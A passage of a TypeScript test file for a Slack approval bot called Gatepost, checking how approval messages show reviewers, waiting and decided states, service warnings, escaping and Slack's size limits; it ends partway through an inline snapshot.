import { createHash } from 'node:crypto';
import type { KnownBlock, Overflow, RichTextBlockElement, RichTextElement } from '@slack/types';
import { describe, expect, test } from 'vitest';
import type { Approval, Outcome } from '../../../../src/approvals/approval.ts';
import { digestOf } from '../../../../src/approvals/digest.ts';
import { announcement } from '../../../../src/approvals/tell/message/announcement.ts';
import { approvalMessage, statesOutcome } from '../../../../src/approvals/tell/message/message.ts';
import {
  type MessageState,
  messageStateOf,
} from '../../../../src/approvals/tell/message/message-state.ts';
import {
  excerptOf,
  overflowCount,
  repliesFor,
} from '../../../../src/approvals/tell/message/overflow.ts';
import { overflowMessage } from '../../../../src/approvals/tell/message/request-words.ts';
import type { Route } from '../../../../src/core/config/config.ts';
import { quotedWords, runsOf } from '../../../../src/core/slack/rich-text.ts';
import { mrkdwn } from '../../../../src/core/slack/text.ts';
import { messageSchema } from '../../../support/slack-limits.ts';
import {
  approvalWith,
  LINKS,
  LONGEST,
  NOW,
  routeWith,
  termsWith,
  WAITING,
} from '../../approvals.ts';

/** A message as lines: its text, then block by block; buttons in brackets. */
function linesOf(
  state: MessageState,
  change: Partial<Approval> = {},
  route: Route | undefined = routeWith(),
): string {
  const { text, blocks } = approvalMessage('0-abc', approvalWith(change), state, {
    asOf: NOW,
    route,
  });
  const lines = withoutMenu(blocks).map((block) => {
    switch (block.type) {
      case 'header':
        return `# ${block.text.text}`;
      case 'section':
        return `${block.text?.text ?? block.fields?.map((each) => each.text).join(' | ')}${block.accessory === undefined ? '' : ' ⋯'}`;
      case 'context':
        return `(${block.elements.map((each) => ('text' in each ? each.text : '?')).join(' ')})`;
      case 'rich_text':
        return block.elements.map(richLine).join('\n');
      case 'actions':
        return block.elements
          .map((each) =>
            each.type === 'button' ? `[${each.text.text}: ${each.value ?? each.url}]` : '⋯',
          )
          .join(' ');
      default:
        return '?';
    }
  });
  return [text, ...lines].join('\n');
}

/** Every message has it, so it says nothing about the state. */
function withoutMenu(blocks: readonly KnownBlock[]): KnownBlock[] {
  return blocks.flatMap((block): KnownBlock[] => {
    if (block.type === 'section') {
      const { accessory, ...rest } = block;
      return [rest];
    }
    if (block.type !== 'actions') return [block];
    const elements = block.elements.filter(({ type }) => type !== 'overflow');
    return elements.length === 0 ? [] : [{ ...block, elements }];
  });
}

function buttonsIn(blocks: readonly KnownBlock[]) {
  const last = withoutMenu(blocks).at(-1);
  return last?.type === 'actions' ? last.elements : [];
}

/** A quotation and code are marked as such. */
function richLine(part: RichTextBlockElement): string {
  const words = (part.elements as RichTextElement[]).map(wordOf).join('');
  const mark = { rich_text_quote: '> ', rich_text_preformatted: '``` ' }[part.type as string] ?? '';
  return `${mark}${words}`;
}

function wordOf(element: RichTextElement): string {
  if (element.type === 'user') return `<@${element.user_id}>`;
  if (element.type === 'usergroup') return `<!subteam^${element.usergroup_id}>`;
  if (element.type === 'link') return `<${element.url}>`;
  return element.type === 'text' ? element.text : '?';
}

const decided = {
  name: 'decided',
  status: 'APPROVED',
  credit: 'certain',
  by: ['U0ANA'],
  resolvedAt: '2026-11-20T10:00:00Z',
} as const;

describe('the menu of a message', () => {
  const unsent = { action: 'approve', by: 'U0ANA' } as const;
  test.each<MessageState>([
    WAITING,
    { ...WAITING, posting: true },
    { name: 'unsent', until: NOW, ...unsent },
    { name: 'sending', ...unsent },
    { name: 'unconfirmed', ...unsent },
    { name: 'unknown', why: 'gone' },
    { name: 'withdrawn' },
    decided,
  ])('is next to its buttons, or beside its state: %j', (state) => {
    const route = routeWith();
    const { blocks } = approvalMessage('0-abc', approvalWith(), state, { asOf: NOW, route });
    const [menu, ...others] = blocks.flatMap((block): { readonly type: string }[] => {
      if (block.type === 'actions') return block.elements.filter(({ type }) => type === 'overflow');
      return block.type === 'section' && block.accessory !== undefined ? [block.accessory] : [];
    });
    expect(others).toEqual([]);
    // as: it was made by `overflowMenu`
    const { options = [] } = (menu ?? {}) as Partial<Overflow>;
    const request = state.name === 'decided' ? [['Show request', 'request:0-abc']] : [];
    expect(options.map(({ text, value }) => [text.text, value])).toEqual([
      ['Details…', 'details:0-abc'],
      ...request,
    ]);
  });
});

describe('a waiting message', () => {
  test('shows the request, its reviewers, and two buttons that carry only an id', () => {
    expect(linesOf(WAITING)).toMatchInlineSnapshot(`
      "Decision needed: Deploy 4.2
      # Deploy 4.2
      :hourglass: *Waiting for* <@U0ANA> or <@U0BEN>
      > To production?
      [Approve: 0-abc] [Reject: 0-abc]"
    `);
    expect(
      approvalMessage('0-abc', approvalWith(), WAITING, {
        asOf: NOW,
        route: routeWith(),
      }).blocks.at(-1),
    ).toMatchInlineSnapshot(`
      {
        "block_id": "approvals.decide",
        "elements": [
          {
            "accessibility_label": "Approve Deploy 4.2",
            "action_id": "approvals.ballot.approve",
            "style": "primary",
            "text": {
              "emoji": true,
              "text": "Approve",
              "type": "plain_text",
            },
            "type": "button",
            "value": "0-abc",
          },
          {
            "accessibility_label": "Reject Deploy 4.2",
            "action_id": "approvals.ballot.reject",
            "style": "danger",
            "text": {
              "emoji": true,
              "text": "Reject",
              "type": "plain_text",
            },
            "type": "button",
            "value": "0-abc",
          },
          {
            "action_id": "approvals.menu",
            "options": [
              {
                "text": {
                  "emoji": true,
                  "text": "Details…",
                  "type": "plain_text",
                },
                "value": "details:0-abc",
              },
            ],
            "type": "overflow",
          },
        ],
        "type": "actions",
      }
    `);
  });

  test('shows every text of the request', () => {
    const change = {
      fields: [
        ['Version', '4.2'],
        ['Region', 'eu & us'],
      ] as const,
      link: 'https://ci.example.com/run?id=7&tab=log|x',
      requester: { email: 'rita@example.com', user: 'U0RITA' },
      expiresAt: NOW + 3_600_000,
    };
    expect(linesOf(WAITING, change)).toMatchInlineSnapshot(`
      "Decision needed: Deploy 4.2 · asked by rita@example.com
      # Deploy 4.2
      :hourglass: *Waiting for* <@U0ANA> or <@U0BEN> · Deadline: <!date^1790003600^{date_short_pretty} at {time}|2026-09-21T15:13:20.000Z>
      (Asked by <@U0RITA>)
      > To production?
      Version: 4.2
      Region: eu & us
      [Approve: 0-abc] [Reject: 0-abc] [Open run on ci.example.com ↗: https://ci.example.com/run?id=7&tab=log|x]"
    `);
  });

  test('shows how many have approved and how many are needed', () => {
    const state = { ...WAITING, approvedBy: ['U0ANA', 'U0BEN'], needed: 3 };
    expect(linesOf(state)).toMatchInlineSnapshot(`
      "Decision needed: Deploy 4.2
      # Deploy 4.2
      :hourglass: *Waiting* · nobody else can decide · 2 of 3 approvals (<@U0ANA> and <@U0BEN>)
      > To production?
      [Approve: 0-abc] [Reject: 0-abc]"
    `);
  });

  test('shows since when the service has not answered', () => {
    expect(linesOf({ ...WAITING, staleSince: NOW })).toMatchInlineSnapshot(`
      "Decision needed: Deploy 4.2
      # Deploy 4.2
      :hourglass: *Waiting for* <@U0ANA> or <@U0BEN>
      (:warning: The service has not answered since <!date^1790000000^{date_short_pretty} at {time}|2026-09-21T14:13:20.000Z>. Gatepost keeps trying.)
      > To production?
      [Approve: 0-abc] [Reject: 0-abc]"
    `);
    expect(linesOf({ ...WAITING, staleSince: null })).toMatchInlineSnapshot(`
      "Decision needed: Deploy 4.2
      # Deploy 4.2
      :hourglass: *Waiting for* <@U0ANA> or <@U0BEN>
      (:warning: The service has not answered. Gatepost keeps trying.)
      > To production?
      [Approve: 0-abc] [Reject: 0-abc]"
    `);
  });

  test.each<[MessageState & { name: 'waiting' }, string]>([
    [
      { ...WAITING, staleSince: NOW, trouble: { why: 'denied', status: 403 } },
      "The service refuses Gatepost's requests (403). Gatepost keeps trying.",
    ],
    [
      { ...WAITING, staleSince: NOW, trouble: { why: 'refused', detail: 'No <way>.' } },
      'The service does not let Gatepost read this approval: “No &lt;way&gt;.” Gatepost keeps trying.',
    ],
    [
      { ...WAITING, staleSince: NOW, trouble: { why: 'busy' } },
      'The service is too busy to answer. Gatepost keeps trying.',
    ],
    [
      { ...WAITING, staleSince: null, unwatched: true },
      'The service has not answered. No longer watched: press Check now to see a decision made elsewhere.',
    ],
  ])('shows how the service failed', (state, note) => {
    expect(linesOf(state).split('\n').at(3)).toBe(`(:warning: ${note})`);
  });

  test('has Check now while the service refuses access', () => {
    const trouble = { why: 'denied', status: 401 } as const;
    const denied = linesOf({ ...WAITING, staleSince: NOW, trouble });
    expect(denied.split('\n').at(-1)).toBe('[Approve: 0-abc] [Reject: 0-abc] [Check now: 0-abc]');
  });

  test('has Check now when it is no longer watched', () => {
    expect(linesOf({ ...WAITING, unwatched: true })).toMatchInlineSnapshot(`
      "Decision needed: Deploy 4.2
      # Deploy 4.2
      :hourglass: *Waiting for* <@U0ANA> or <@U0BEN>
      (No longer watched: press Check now to see a decision made elsewhere.)
      > To production?
      [Approve: 0-abc] [Reject: 0-abc] [Check now: 0-abc]"
    `);
  });

  const named = { users: [], groups: [], channel: false };
  const asked = { requester: { user: 'U0BEN' } };
  test.each([
    ['*Waiting for anyone in this channel*', { ...named, channel: true }, {}],
    ['*Waiting for* <!subteam^S0OPS>', { ...named, groups: ['S0OPS'] }, {}],
    [
      '*Waiting for* <@U0BEN>',
      { ...named, users: ['U0ANA', 'U0BEN'] },
      { narrowedTo: { users: ['U0BEN'], groups: [] } },
    ],
    [
      '*Waiting for* <@U0BEN>, if they review this route',
      { ...named, groups: ['S0OPS'] },
      { narrowedTo: { users: ['U0BEN'], groups: [] } },
    ],
    ['*Waiting for* <@U0ANA>', { ...named, users: ['U0ANA', 'U0BEN'] }, asked],
    ['*Waiting* · nobody else can decide', { ...named, users: ['U0BEN'] }, asked],
    ['*Waiting* · nobody can decide: no reviewers are configured', named, {}],
  ])('shows who can decide: %s', (words, reviewers, change) => {
    const lines = linesOf(WAITING, change, routeWith({ reviewers })).split('\n');
    expect(lines).toContain(`:hourglass: ${words}`);
  });

  const LEADS = [{ after: 0, to: { users: ['U0LEA'], groups: ['S0LEADS'] } }];
  const quietly = (...users: string[]) => ({ users, groups: [] });
  test.each<[string, Partial<Route>, Partial<Approval>, readonly string[]]>([
    [
      '*Waiting for* <@U0ANA>, <@U0BEN>, <@U0LEA> or <!subteam^S0LEADS>',
      { escalate: LEADS },
      {},
      [],
    ],
    [
      '*Waiting for* anyone in this channel, <@U0LEA> or <!subteam^S0LEADS>',
      { reviewers: { ...named, channel: true }, escalate: LEADS },
      {},
      [],
    ],
    [
      '*Waiting for* <@U0BEN>, <@U0LEA> or <!subteam^S0LEADS>',
      { escalate: LEADS },
      { narrowedTo: quietly('U0BEN') },
      [],
    ],
    ['*Waiting for* <@U0BEN>', { quiet: quietly('U0ANA') }, {}, []],
    ['*Waiting for a decision*', { quiet: quietly('U0ANA', 'U0BEN') }, {}, []],
    ['*Waiting for a decision*', { reviewers: named, quiet: quietly('U0QIN') }, {}, []],
    [
      '*Waiting for a decision*',
      { quiet: quietly('U0ANA', 'U0BEN'), quorum: 2 },
      { ballots: [{ user: 'U0ANA', action: 'approve', at: NOW }] },
      ['U0ANA'],
    ],
    // People who are not mentioned have approved, or were not named by the request.
    [
      '*Waiting* · nobody else can decide',
      { quiet: quietly('U0ANA', 'U0BEN'), quorum: 3 },
      {},
      ['U0ANA', 'U0BEN'],
    ],
    [
      '*Waiting* · nobody else can decide',
      { quiet: quietly('U0QIN') },
      { ...asked, narrowedTo: quietly('U0BEN') },
      [],
    ],
    [
      '*Waiting* · nobody can decide yet',
      { reviewers: named, escalate: LEADS.map((step) => ({ ...step, after: 60_000 })) },
      {},
      [],
    ],
  ])(
    'shows who can decide after an escalation, without quiet reviewers: %s',
    (words, route, change, approvedBy) => {
      const state = { ...WAITING, approvedBy, needed: route.quorum ?? 1 };
      const lines = linesOf(state, change, { ...routeWith(), ...route });
      expect(lines.split('\n').find((line) => line.startsWith(':hourglass:'))).toMatch(
        new RegExp(`^:hourglass: ${words.replace(/[*^.|]/gu, '\\$&')}(?: · \\d|$)`, 'u'),
      );
    },
  );

  test('includes the requester if the route allows self-approval', () => {
    const lines = linesOf(WAITING, asked, routeWith({ selfApproval: true }));
    expect(lines).toContain('*Waiting for* <@U0ANA> or <@U0BEN>');
  });

  test.each<[number, number, string]>([
    [0, 1, '1 approval is needed, and no reviewer can approve.'],
    [1, 2, '2 approvals are needed, and only 1 reviewer can approve.'],
    [2, 3, '3 approvals are needed, and only 2 reviewers can approve.'],
  ])('says that %i reviewers cannot give %i approvals', (able, needed, words) => {
    expect(linesOf({ ...WAITING, able, needed })).toContain(
      `:warning: Cannot be approved: ${words} Add reviewers, or request it again.`,
    );
  });

  test('says how many of the remaining reviewers are needed', () => {
    const users = ['U0ANA', 'U0BEN', 'U0CLEO'];
    const waitsFor = (state: Partial<MessageState>, groups: readonly string[] = []) => {
      const reviewers = { users, groups: [...groups], channel: false };
      const waiting = { ...WAITING, ...state } as MessageState; // as: of its own parts
      return linesOf(waiting, {}, routeWith({ reviewers })).split('\n')[2];
    };
    expect(waitsFor({ needed: 2 })).toMatch(
      /\*Waiting for 2 of\* <@U0ANA>, <@U0BEN>, <@U0CLEO> · /,
    );
    expect(waitsFor({ needed: 3 })).toMatch(/\*Waiting for\* <@U0ANA>, <@U0BEN> and <@U0CLEO> · /);
    expect(waitsFor({ needed: 3 }, ['S0OPS'])).toMatch(/\*Waiting for 3 of\* /);
    expect(waitsFor({ needed: 2, approvedBy: ['U0ANA'] })).toMatch(
      /\*Waiting for\* <@U0BEN> or <@U0CLEO> · 1 of 2/,
    );
  });

  const SRE = { name: 'SRE', count: 1, of: { users: ['U0ANA'], groups: ['S0SRE'] } };
  const SECURITY = { name: 'Q&A', count: 2, of: { users: [], groups: ['S0SEC'] } };
  const inGroups = { users: [], groups: ['S0SRE', 'S0SEC'], channel: false };
  const approves = (user: string, ...through: string[]) =>
    ({ user, action: 'approve', at: NOW, through }) as const;
  const stateLine = (ballots: Approval['ballots'], route: Partial<Route>, change = {}) => {
    const approval = { ballots, ...change };
    const terms = termsWith({ reviewers: inGroups, need: [SRE, SECURITY], ...route });
    const state = messageStateOf(approvalWith(approval), terms, NOW);
    return linesOf(state, approval, terms.route).split('\n')[2];
  };

  test('lists who is needed for each need, and how many more', () => {
    expect(stateLine([], {})).toBe(
      ':hourglass: *Waiting for* 1 of SRE (<@U0ANA>, <!subteam^S0SRE>), 2 of Q&amp;A (<!subteam^S0SEC>)',
    );
    expect(stateLine([approves('U0CLEO', 'S0SEC')], { quorum: 5 })).toBe(
      ':hourglass: *Waiting for* 1 of SRE (<@U0ANA>, <!subteam^S0SRE>), 1 of Q&amp;A (<!subteam^S0SEC>), 2 more reviewers (<!subteam^S0SRE>, <!subteam^S0SEC>) · approved by <@U0CLEO>',
    );
    // The requester cannot approve, and an approver is not asked again.
    expect(stateLine([], { need: [SRE] }, { requester: { user: 'U0ANA' } })).toMatch(
      /1 of SRE \(<!subteam\^S0SRE>\)$/,
    );
    const two = { ...SRE, count: 2 };
    expect(stateLine([approves('U0ANA')], { need: [two] })).toMatch(
      /\* 1 of SRE \(<!subteam\^S0SRE>\) · approved by <@U0ANA>$/,
    );
  });

  test('says “or” for two needs if an approver can count for either', () => {
    const need = [SRE, { ...SECURITY, count: 1 }];
    expect(stateLine([approves('U0BEN', 'S0SRE', 'S0SEC')], { need })).toBe(
      ':hourglass: *Waiting for* 1 of SRE or Q&amp;A (<@U0ANA>, <!subteam^S0SRE>, <!subteam^S0SEC>) · approved by <@U0BEN>',
    );
    expect(stateLine([approves('U0BEN', 'S0SRE')], { need })).toContain('* 1 of Q&amp;A (');
  });

  test('lists the remaining reviewers once every need is covered', () => {
    const need = [SRE];
    expect(stateLine([approves('U0BEN', 'S0SRE')], { need, quorum: 2 })).toBe(
      ':hourglass: *Waiting for* <!subteam^S0SRE> or <!subteam^S0SEC> · 1 of 2 approvals (<@U0BEN>)',
    );
  });

  test('says which needs nobody can cover', () => {
    const lacking = (...names: string[]) => linesOf({ ...WAITING, lacking: names });
    expect(lacking('Q&A')).toContain(
      ':warning: Cannot be approved: not enough people from Q&amp;A can approve. Add reviewers, or request it again.',
    );
    expect(lacking('SRE', 'Q&A')).toContain('not enough people from SRE or Q&amp;A can approve.');
    expect(lacking('A', 'B', 'C', 'D')).toContain('from A or B or 2 more can approve.');
  });

  test('stays within Slack’s limits, however many needs there are', () => {
    const of = {
      users: Array.from({ length: 40 }, (_, at) => `U${String(at).padStart(10, '0')}`),
      groups: Array.from({ length: 10 }, (_, at) => `S${String(at).padStart(10, '0')}`),
    };
    const need = Array.from({ length: 20 }, (_, at) => {
      return { name: `${'a&'.repeat(18)}${at + 10}`, count: 2, of };
    });
    const [needs, route] = [need.slice(10), routeWith({ need: need.slice(0, 10) })];
    const ballots = of.users.slice(0, 12).map((user) => approves(user));
    for (const request of [approvalWith(), LONGEST]) {
      const approval = { ...request, needs, ballots };
      const state = messageStateOf(approval, { ...termsWith(), route }, NOW);
      const message = approvalMessage('0-abc', approval, state, { asOf: NOW, route });
      expect(messageSchema.safeParse(message).error).toBeUndefined();
      expect(JSON.stringify(message)).toMatch(/\d+ from other groups/);
    }
  });

  test('does not list people who have approved', () => {
    const state = { ...WAITING, approvedBy: ['U0ANA'], needed: 2 };
    expect(linesOf(state)).toContain('*Waiting for* <@U0BEN> ·');
    const cast = { user: 'U1ANA', action: 'approve', at: NOW, alsoKnownAs: ['U0ANA'] } as const;
    const other = linesOf({ ...state, approvedBy: ['U1ANA'] }, { ballots: [cast] });
    expect(other).toContain('*Waiting for* <@U0BEN> ·');
  });

  test('says that nobody can decide if its route is not configured', () => {
    const { blocks } = approvalMessage('0-abc', approvalWith(), WAITING, {
      asOf: NOW,
      route: undefined,
    });
    expect(JSON.stringify(blocks)).toContain('nobody can decide: the route is not configured');
  });

  test.each(['Approved: 4.2', 'Approved', 'Timed out: x'])(
    'never states an outcome in its notification, whatever its title is: %s',
    (title) => {
      const states: MessageState[] = [
        WAITING,
        { ...WAITING, serviceUntil: NOW },
        { name: 'withdrawn' },
        { name: 'unknown', why: 'gone' },
        { name: 'sending', action: 'approve', by: 'U0ANA' },
      ];
      for (const state of states) {
        const { text } = approvalMessage('0-abc', approvalWith({ title }), state, termsWith());
        for (const status of ['APPROVED', 'REJECTED', 'TIMED_OUT'] as const) {
          expect(statesOutcome(text, status)).toBe(false);
        }
      }
      const { text } = approvalMessage('0-abc', approvalWith({ title }), decided, termsWith());
      expect(statesOutcome(text, 'APPROVED')).toBe(true);
      expect(statesOutcome(text, 'REJECTED')).toBe(false);
    },
  );

  test('does not name a source without a name in the configuration, except by its given name', () => {
    expect(linesOf(WAITING)).not.toContain('sked by');
    expect(linesOf(WAITING, { sourceName: 'Releases' })).toContain('(Asked by *Releases*)');
  });

  test('names its source if there is no requester, also in the notification', () => {
    const shown = linesOf(WAITING, { source: 'deploys' });
    expect(shown).toMatch(/^Decision needed: Deploy 4\.2 · asked by deploys\n/);
    expect(shown).toContain('(Asked by *deploys*)');
    const named = linesOf(WAITING, { source: 'deploys', sourceName: 'R&D <!here> deploys' });
    expect(named).toContain(' · asked by R&amp;D &lt;!here&gt; deploys\n');
    expect(named).toContain('(Asked by *R&amp;D &lt;!here&gt; deploys*)');
  });

  test('names the requester instead of the source, without a mention in the notification', () => {
    const byName = linesOf(WAITING, { source: 'deploys', requester: { name: 'Night <shift>' } });
    expect(byName).toContain('Decision needed: Deploy 4.2 · asked by Night &lt;shift&gt;\n');
    const byUser = linesOf(WAITING, { source: 'deploys', requester: { user: 'U0RITA' } });
    expect(byUser).toMatch(/^Decision needed: Deploy 4\.2\n/);
    expect(byName + byUser).not.toContain('deploys');
  });

  test('without a title takes the first line as its title', () => {
    const { title, ...untitled } = approvalWith({ message: '\n Deploy `4.2`?\nAll is green.' });
    const { text, blocks } = approvalMessage('0-abc', untitled, WAITING, {
      asOf: NOW,
      route: routeWith(),
    });
    expect(text).toBe('Decision needed: Deploy ˋ4.2ˋ?');
    expect(blocks[0]).toMatchObject({ type: 'header', text: { text: 'Deploy `4.2`?' } });
  });

  test('asks for confirmation before an approval if the route requires it', () => {
    const { blocks } = approvalMessage('0-abc', approvalWith(), WAITING, {
      asOf: NOW,
      route: routeWith({ confirm: true }),
    });
    const [approve, reject] = buttonsIn(blocks);
    expect(approve).toMatchObject({ confirm: { text: { text: 'Deploy 4.2' } } });
    expect(reject).not.toHaveProperty('confirm');
  });

  test('formats code, addresses and the change, and no other markup', () => {
    const change = {
      message:
        'Run `make <deploy>` as in https://ci.example.com/7.\n```sh\nmake all\n```\n*Now* <!here>',
      change: '+ replicas: 3\n- replicas: 2',
    };
    const { blocks } = approvalMessage('0-abc', approvalWith(change), WAITING, {
      asOf: NOW,
      route: routeWith(),
    });
    expect(blocks[1]).toMatchInlineSnapshot(`
      {
        "text": {
          "text": ":hourglass: *Waiting for* <@U0ANA> or <@U0BEN>",
          "type": "mrkdwn",
          "verbatim": true,
        },
        "type": "section",
      }
    `);
  });

  test('has no buttons before its replies are posted', () => {
    const lines = linesOf({ ...WAITING, posting: true }, { change: 'x'.repeat(40_000) });
    expect(lines).toContain('<@U0BEN> · 5 replies are still being posted below');
    expect(lines).not.toContain('[Approve');
  });

  test('stays within Slack’s limits, however many long addresses its title has', () => {
    const words = Array.from(
      { length: 5 },
      (_, at) => `https://x.example/${at}${'a'.repeat(1_600)}`,
    );
    const { title, ...untitled } = approvalWith({ message: words.join(' ') });
    const message = approvalMessage('0-abc', untitled, WAITING, { asOf: NOW, route: routeWith() });
    expect(messageSchema.safeParse(message).success).toBe(true);
    const { links } = excerptOf(
      approvalWith({ title: `${words[0]} ${'https://y.example '.repeat(40)}` }),
    );
    expect(links.map(({ text }) => text)).toEqual(Array(35).fill('https://y.example'));
  });

  test('says that no description was given, or that the service has not given one yet', () => {
    const { message, ...silent } = approvalWith();
    const promptOf = (watch: Approval['watch']) =>
      approvalMessage('0-abc', { ...silent, watch }, WAITING, { asOf: NOW, route: routeWith() })
        .blocks[2];
    const said = (text: string) => quotedWords(runsOf(text));
    const seen = { state: 'pending', nextAt: NOW, checkedAt: NOW } as const;
    expect(promptOf(seen)).toEqual(said('No description was given.'));
    const unsaid = said('The service has not yet said what this is about.');
    expect(promptOf({ state: 'pending', nextAt: NOW, stale: true })).toEqual(unsaid);
    expect(promptOf({ ...seen, state: 'unknown', why: 'gone' })).toEqual(unsaid);
  });

  test('of an own gate without a text does not speak of the service', () => {
    const { message, ...silent } = approvalWith({ key: 'deploy-7' });
    const terms = { asOf: NOW, route: routeWith() };
    const { blocks } = approvalMessage('0-abc', silent, WAITING, terms);
    const withWords = approvalMessage('0-abc', { ...silent, message: 'Now?' }, WAITING, terms);
    expect(withWords.blocks).toHaveLength(blocks.length + 1);
    expect(JSON.stringify(blocks)).not.toContain('service');
  });
});

describe('while the service is waited for', () => {
  test('the person who pressed is not named before they are checked, and the buttons stay', () => {
    const waiting = { ...WAITING, needed: 2, approvedBy: ['U0BEN'], serviceUntil: NOW + 30_000 };
    expect(linesOf(waiting)).toMatchInlineSnapshot(`
      "Waiting for the service: Deploy 4.2
      # Deploy 4.2
      :hourglass: *Waiting for the service* · Gatepost cannot check this press yet. It keeps trying until <!date^1790000030^{time}|2026-09-21T14:13:50.000Z> · 1 of 2 approvals (<@U0BEN>)
      > To production?
      [Approve: 0-abc] [Reject: 0-abc]"
    `);
  });

  const whose = { action: 'reject', by: 'U0ANA' } as const;

  test('an unsent decision names its author and its time limit, and has no buttons', () => {
    const unsent = { name: 'unsent', ...whose, until: NOW + 30_000 } as const;
    expect(linesOf(unsent)).toMatchInlineSnapshot(`
      "Waiting for the service: Deploy 4.2
      # Deploy 4.2
      :hourglass_flowing_sand: *Waiting for the service* · <@U0ANA>'s rejection has not been sent yet. Gatepost keeps trying until <!date^1790000030^{time}|2026-09-21T14:13:50.000Z>
      > To production?"
    `);
    const own = approvalMessage('0-abc', approvalWith({ key: 'deploy-7' }), unsent, {
      asOf: NOW,
      route: routeWith(),
    });
    expect(JSON.stringify(own.blocks)).toContain('has not been recorded yet');
    expect(linesOf({ ...unsent, waitsFor: 'check' })).toMatch(
      /\*Waiting\* · <@U0ANA>'s rejection has not been sent yet\. Gatepost cannot check yet whether it counts\. It keeps trying until/,
    );
    expect(linesOf({ ...unsent, waitsFor: 'earlier' })).toMatch(
      /\*Waiting\* · .* not been sent yet\. Gatepost first checks what became of an earlier decision/,
    );
  });

  test('a decision that is being sent, or is unconfirmed, has no buttons', () => {
    expect(linesOf({ name: 'sending', ...whose })).toMatchInlineSnapshot(`
      "Sending a decision: Deploy 4.2
      # Deploy 4.2
      :hourglass_flowing_sand: *Sending <@U0ANA>'s rejection*
      > To production?"
    `);
    expect(linesOf({ name: 'unconfirmed', ...whose })).toMatchInlineSnapshot(`
      "Waiting for the service: Deploy 4.2
      # Deploy 4.2
      :hourglass_flowing_sand: *Waiting for the service* · it has not confirmed <@U0ANA>'s rejection yet
      > To production?"
    `);
  });
});

describe('the message of an outcome', () => {
  test('names who decided, and when', () => {
    expect(linesOf(decided)).toMatchInlineSnapshot(`
      "Approved: Deploy 4.2
      # Deploy 4.2
      :white_check_mark: *Approved by <@U0ANA>*
      (Decided <!date^1795168800^{date_short_pretty} at {time}|2026-11-20T10:00:00Z>)
      > To production?"
    `);
    expect(
      linesOf({ ...decided, status: 'REJECTED' })
        .split('\n')
        .at(-1),
    ).toMatchInlineSnapshot(`"> To production?"`);
  });

  test('that the service did not confirm says whose decision was sent', () => {
    expect(linesOf({ ...decided, credit: 'sent' })).toMatchInlineSnapshot(`
      "Approved: Deploy 4.2
      # Deploy 4.2
      :white_check_mark: *Approved*
      (The decision of <@U0ANA> was sent. The service did not say whose decision it accepted.)
      (Decided <!date^1795168800^{date_short_pretty} at {time}|2026-11-20T10:00:00Z>)
      > To production?"
    `);
  });

  test('decided elsewhere credits nobody and shows no time', () => {
    const elsewhere = { ...decided, credit: 'none', by: [], resolvedAt: null } as const;
    expect(linesOf(elsewhere).split('\n').at(2)).toMatchInlineSnapshot(
      `":white_check_mark: *Approved elsewhere*"`,
    );
  });

  test('by timeout names nobody', () => {
    const late = { ...decided, status: 'TIMED_OUT', credit: 'none', by: [] } as const;
    expect(linesOf(late).split('\n').at(2)).toMatchInlineSnapshot(`":alarm_clock: *Timed out*"`);
  });

  test('shows an unreadable time verbatim, or omits a very long one', () => {
    const line = (resolvedAt: string) =>
      linesOf({ ...decided, resolvedAt })
        .split('\n')
        .at(3)
        ?.split(' · ')[0];
    expect(line('20 Nov <10h>')).toBe('(Decided 20 Nov &lt;10h&gt;)');
    expect(line('9'.repeat(500))).toBe('> To production?');
  });
});

test('an unknown state gives the reason and whose decision is unconfirmed, and has Check now', () => {
  expect(linesOf({ name: 'unknown', why: 'gone' })).toMatchInlineSnapshot(`
    "State unknown: Deploy 4.2
    # Deploy 4.2
    :grey_question: *Unknown* · The service no longer shows this request.
    > To production?
    [Check now: 0-abc]"
  `);
  const unconfirmed = { action: 'approve', by: 'U0ANA' } as const;
  expect(linesOf({ name: 'unknown', why: 'unsure', unconfirmed })).toMatchInlineSnapshot(`
    "State unknown: Deploy 4.2
    # Deploy 4.2
    :grey_question: *Unknown* · <@U0ANA>'s approval may not have reached the service.
    > To production?
    [Check now: 0-abc]"
  `);
  expect(linesOf({ name: 'unknown', why: 'gone', unconfirmed })).toMatchInlineSnapshot(`
    "State unknown: Deploy 4.2
    # Deploy 4.2
    :grey_question: *Unknown* · The service no longer shows this request. It is not known whether <@U0ANA>'s approval was accepted.
    > To production?
    [Check now: 0-abc]"
  `);
});

test.each([
  [`Q & A ${'x'.repeat(200)}; y`, `Q & A ${'x'.repeat(143)}…`],
  ['😀'.repeat(100), `${'😀'.repeat(74)}…`],
])('a long title is cut at the limit and not before', (title, shown) => {
  expect(linesOf(WAITING, { title }).split('\n')[1]).toBe(`# ${shown}`);
});

describe('the link to a run', () => {
  const link = 'https://ci.example.com/7';
  const title = `Deploy ${'x'.repeat(140)}`;
  const shown = (state: MessageState, usualHosts?: readonly string[]) => {
    const terms = { asOf: NOW, route: routeWith(), ...(usualHosts && { usualHosts }) };
    return JSON.stringify(approvalMessage('0-abc', approvalWith({ link, title }), state, terms));
  };

  test('has a label with its host, however long the title is', () => {
    const [, spoken = ''] = /"accessibility_label":"(Open run[^"]*)"/.exec(shown(WAITING)) ?? [];
    expect(spoken).toMatch(/^Open run on ci\.example\.com: Deploy x+…$/);
    expect(spoken.length).toBeLessThanOrEqual(75);
  });

  test('shows its host in a folded message, unless the host is an expected one', () => {
    const folded = { ...decided, folded: true } as const;
    expect(shown(folded)).toContain(`<${link}|Open run on ci.example.com>`);
    expect(shown(folded, ['ci.example.com'])).toContain(`<${link}|Open run>`);
  });
});

test('a long change shows its first lines, and how many more are in the thread', () => {
  const change = Array.from({ length: 30 }, (_, at) => `  line ${at}`).join('\n');
  const { blocks } = approvalMessage('0-abc', approvalWith({ change }), WAITING, termsWith());
  const [, notice] = blocks.slice(blocks.findIndex(({ type }) => type === 'rich_text'));
  expect(notice).toEqual({ type: 'section', text: mrkdwn('12 more lines in the thread ↓') });
  expect(linesOf(WAITING, { change })).toMatch(/ {2}line 17\n…\n12 more lines/);
  expect(overflowCount(approvalWith({ change }))).toBe(1);
  const short = change.split('\n').slice(0, 18).join('\n');
  expect(overflowCount(approvalWith({ change: short }))).toBe(0);
  expect(overflowCount(approvalWith({ change: `${short}\n` }))).toBe(0);
});

test('a text that does not fit continues in the thread', () => {
  const message = `${'word '.repeat(505)}end`;
  expect(linesOf(WAITING, { message })).toContain('\nMore in the thread ↓');
  expect(overflowMessage(approvalWith({ message }), 1)).toMatchInlineSnapshot(`
    {
      "blocks": [
        {
          "elements": [
            {
              "elements": [
                {
                  "text": "… word word word word word end",
                  "type": "text",
                },
              ],
              "type": "rich_text_quote",
            },
          ],
          "type": "rich_text",
        },
      ],
